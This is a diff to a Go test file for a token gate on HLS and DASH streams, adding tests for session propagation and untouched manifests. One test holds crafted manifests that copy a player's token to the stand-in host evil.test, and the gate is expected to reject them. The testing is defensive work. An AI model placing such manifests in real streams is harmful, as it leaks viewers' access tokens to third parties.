@@ -378,7 +378,7 @@ func TestModesThatCannotBe(t *testing.T) {
 	key := sessionKey(t, "a")
 	for lines, tc := range map[string]struct{ app, text string }{
 		"propagate session":                                              {"", "session_key"},
-		"referer_missing first":                                          {key, "propagate session"},
+		"referer_missing first":                                          {"", "propagate session"},
 		"propagate query\nreferer_missing first":                         {key, "propagate session"},
 		"propagate session\ntokens {\nquery off\n}":                      {key, "tokens { query"},
 		"propagate cookie":                                               {"", "cors"},
@@ -632,6 +632,78 @@ func TestOffMode(t *testing.T) {
 	w := get(t, h, hlsOf(plain), playlist+"?token="+tok)
 	if w.Body.String() != plain || w.Header()["Set-Cookie"] != nil || w.Header().Get("Location") != "" {
 		t.Errorf("body %q, header %v", w.Body, w.Header())
+	}
+}
+
+// Where there is a session key, sessions are what is propagated when nobody
+// says otherwise; without one it is the token itself.
+func TestSessionIsTheDefault(t *testing.T) {
+	tok := mint(t, nil)
+	for name, tc := range map[string]struct {
+		lines, app string
+		session    bool
+	}{
+		"with a session key":      {"", sessionKey(t, "a"), true},
+		"without":                 {"", "", false},
+		"query is asked for":      {"propagate query", sessionKey(t, "a"), false},
+		"no name to write it as":  {"tokens {\nquery off\nheader off\n}", sessionKey(t, "a"), false},
+		"referer_missing follows": {"referer_missing first", sessionKey(t, "a"), true},
+	} {
+		h := newGate(t, tc.lines, tc.app)
+		w := get(t, h, hlsOf("#EXTM3U\nseg.ts\n"), playlist+"?token="+tok)
+		if got := sessionForm.MatchString(w.Body.String()); got != tc.session {
+			t.Errorf("%s: a session token is %v in %q", name, got, w.Body)
+		}
+	}
+}
+
+// A token that the player has in its URL must not be copied to other URIs by
+// the player itself, also where the gate leaves manifests alone.
+func TestManifestsThatLeakInEveryMode(t *testing.T) {
+	tok := mint(t, nil)
+	const leak = "#EXTM3U\n#EXT-X-DEFINE:QUERYPARAM=\"token\"\nhttps://evil.test/x.ts?t={$token}\n"
+	const leakingMPD = `<MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><EssentialProperty schemeIdUri="urn:mpeg:dash:urlparam:2014"><UrlQueryInfo useMPDUrlQuery="true" queryTemplate="$querypart$"/></EssentialProperty><Period><BaseURL>https://evil.test/</BaseURL></Period></MPD>`
+	mpd := answer{header: map[string]string{"Content-Type": "application/dash+xml"}, parts: []string{leakingMPD}}
+	for _, mode := range []string{"query", "session", "path", "cookie", "off"} {
+		t.Run(mode, func(t *testing.T) {
+			h := newGate(t, "propagate "+mode+"\ncors http://page.test", sessionKey(t, "a"))
+			ask := func(o *origin, target, end string, headers ...string) int {
+				target = strings.TrimSuffix(target, "index.m3u8") + end
+				return get(t, h, o, target+"?token="+tok, headers...).Code
+			}
+			at := playlist
+			if mode == "path" { // it would be redirected otherwise
+				at = "/live/~" + tok + "/acme/cam/index.m3u8"
+			}
+			if got := ask(hlsOf(leak), at, "index.m3u8"); got != 502 {
+				t.Errorf("HLS: status %d", got)
+			}
+			if got := ask(mpd.origin(), at, "manifest.mpd"); got != 502 {
+				t.Errorf("DASH: status %d", got)
+			}
+		})
+	}
+	// With the token elsewhere there is nothing to leak.
+	h := newGate(t, "propagate off")
+	w := get(t, h, hlsOf(leak), playlist, "Authorization: Bearer "+tok)
+	if w.Code != 200 || w.Body.String() != leak {
+		t.Errorf("status %d, body %q", w.Code, w.Body)
+	}
+}
+
+// A manifest that is only looked at keeps all that the origin said of it.
+func TestInspectedManifestIsUntouched(t *testing.T) {
+	h := newGate(t, "propagate off")
+	tok := mint(t, nil)
+	const plain = "#EXTM3U\nseg.ts\n"
+	o := answer{header: map[string]string{"Content-Type": hlsType, "Etag": `"1"`, "Last-Modified": "x"}, parts: []string{plain}}.origin()
+	w := get(t, h, o, playlist+"?token="+tok, `If-None-Match: "0"`, "Accept-Encoding: br, gzip")
+	if w.Body.String() != plain || w.Header().Get("Etag") != `"1"` || w.Header().Get("Last-Modified") != "x" {
+		t.Errorf("body %q, header %v", w.Body, w.Header())
+	}
+	sent := o.only(t).Header
+	if sent.Get("If-None-Match") != `"0"` || sent.Get("Accept-Encoding") != "gzip" {
+		t.Errorf("the origin got %v", sent)
 	}
 }
 
